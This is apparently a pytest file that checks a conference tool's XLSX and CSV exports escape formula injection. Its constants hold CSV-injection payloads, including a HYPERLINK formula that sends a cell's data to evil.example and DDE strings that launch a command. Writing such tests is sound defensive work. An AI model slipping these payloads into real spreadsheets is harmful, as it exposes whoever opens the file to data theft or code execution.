"""Every XLSX and CSV export neutralises formulas: texts that would run in Excel are written as text, numbers stay
numbers. Each export is written from a conference holding hostile texts where a user can put them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tdkt_tui.domain import checkin, scoring, tasks
from tdkt_tui.domain.conference import Conference
from tdkt_tui.domain.model import Attendee, Role, Unit, UnitKind
from tdkt_tui.sheets import scores as score_sheets
from tdkt_tui.sheets.attendance_list import write_attendance
from tdkt_tui.sheets.invitations import invitation_row, write_invitation_list
from tdkt_tui.sheets.scan_log import export_log
from tdkt_tui.sheets.tasks import write_tasks_workbook
from tdkt_tui.sheets.writer import FORMULA_STARTS, csv_value, new_workbook, put, save_workbook, write_csv

NAME = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
DESK = "+cmd|' /C calc'!A0"
SCAN = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "-2+3 Ban Thử nghiệm"
TASK = "=1+1"
EVIDENCE = "@evil"
HOSTILE = {NAME, DESK, SCAN, UNIT, TASK, EVIDENCE}


@pytest.fixture
def hostile(demo: Conference) -> Conference:
    """The demo with a formula-like name, desk, scan, member unit, task title and evidence text."""
    unit = demo.add_unit(Unit(name=UNIT, kind=UnitKind.MEMBER))
    person = demo.add_attendee(Attendee(full_name=NAME, unit_id=unit.id, title="=A1", role=Role.VOTING))
    checkin.check_in_person(demo, person.id or 0, DESK)
    checkin.scan(demo, SCAN, DESK)
    tasks.save_task(demo, tasks.Task(title=TASK, notes="-1"))
    item = scoring.criteria(demo)[0]
    scoring.set_score(demo, unit.id or 0, item.id or 0, self_score="5", evidence=EVIDENCE)
    return demo


def xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_safe(path: Path, expected: set[str]) -> list[openpyxl.cell.Cell]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), f"a formula in {path.name}:{name}"
    cells = xlsx_cells(path)
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert expected <= texts, expected - texts  # written verbatim, as text
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, (path.name, cell.coordinate, cell.value)
    return cells


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def assert_csv_safe(path: Path, expected: set[str]) -> list[list[str]]:
    rows = csv_rows(path)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path.name
    assert {"'" + text for text in expected} <= set(cells)
    return rows


def test_attendance_list_xlsx_and_csv(hostile: Conference) -> None:
    cells = assert_xlsx_safe(write_attendance(hostile, "xlsx"), {NAME, DESK, "=A1"})
    assert any(isinstance(c.value, int) and c.column == 1 for c in cells)  # numbers stay numbers
    rows = assert_csv_safe(write_attendance(hostile, "csv"), {NAME, DESK, UNIT, "=A1"})
    assert rows[1][0] == "1"


def test_invitation_list_xlsx_and_csv(hostile: Conference) -> None:
    people = hostile.attendees()
    rows = [invitation_row(n, p, UNIT if p.full_name == NAME else "", "1234567812345678")
            for n, p in enumerate(people, start=1)]
    csv_path, xlsx_path = write_invitation_list(hostile, rows)
    assert_csv_safe(csv_path, {NAME, UNIT})
    cells = assert_xlsx_safe(xlsx_path, {NAME, UNIT})
    assert [c.value for c in cells if c.column == 1 and c.row > 1][:3] == [1, 2, 3]


def test_scan_log_csv(hostile: Conference) -> None:
    assert_csv_safe(export_log(hostile), {DESK, SCAN})


def test_score_workbook(hostile: Conference) -> None:
    cells = assert_xlsx_safe(score_sheets.write_score_workbook(hostile), {UNIT, EVIDENCE})
    assert any(isinstance(c.value, int | float) and not isinstance(c.value, bool) for c in cells)
    # And it reads back: the hostile unit's evidence is the same text.
    preview = score_sheets.read_score_workbook(hostile, next(hostile.folder.glob("exports/bang-diem-*.xlsx")))
    assert EVIDENCE in {v[4] for v in preview.values}


def test_tasks_workbook(hostile: Conference) -> None:
    cells = assert_xlsx_safe(write_tasks_workbook(hostile), {TASK, "-1"})
    assert any(isinstance(c.value, int) for c in cells)


def test_tab_and_carriage_return_starts(demo: Conference) -> None:
    texts = ["\tx", "\r=1", "=1", "+1", "-1", "@1"]
    assert [csv_value(t) for t in texts] == ["'" + t for t in texts]
    assert [csv_value(v) for v in (-1, 2.5, "a=1", "", None)] == [-1, 2.5, "a=1", "", None]
    path = write_csv(demo, "thu", ["=h"], [[t, -5] for t in texts])
    assert csv_rows(path) == [["'=h"]] + [["'" + t, "-5"] for t in texts]
    book, look = new_workbook()
    for row, text in enumerate(texts, start=1):
        put(book.active, row, 1, text, look.plain)
        put(book.active, row, 2, -row)
    cells = xlsx_cells(save_workbook(demo, book, "thu"))
    assert [c.value for c in cells if c.column == 1] == texts and all(c.data_type == "s" for c in cells
                                                                        if c.column == 1)
    assert [c.value for c in cells if c.column == 2] == [-r for r in range(1, 7)]


def test_proposal_list(hostile: Conference) -> None:
    from tdkt_tui.documents.proposal import write_proposal
    from tdkt_tui.domain import voting

    for person in hostile.attendees():
        if person.role is Role.VOTING and not person.present:
            checkin.check_in_person(hostile, person.id or 0, "Bàn 1")
    unit = hostile.find_unit(UNIT)
    poll = voting.create_poll(hostile, voting.Poll(kind=voting.PollKind.AWARD, award=TASK, quota=1,
                                                   candidates=(unit.id,)))
    voting.open_poll(hostile, poll.id)
    voting.set_collected(hostile, poll.id, 12)
    for _ in range(12):
        voting.enter_ballot(hostile, poll.id, "1")
    voting.close_poll(hostile, poll.id)
    cells = assert_xlsx_safe(write_proposal(hostile).xlsx, {UNIT, TASK})
    assert any(isinstance(c.value, int) for c in cells)  # the votes stay numbers
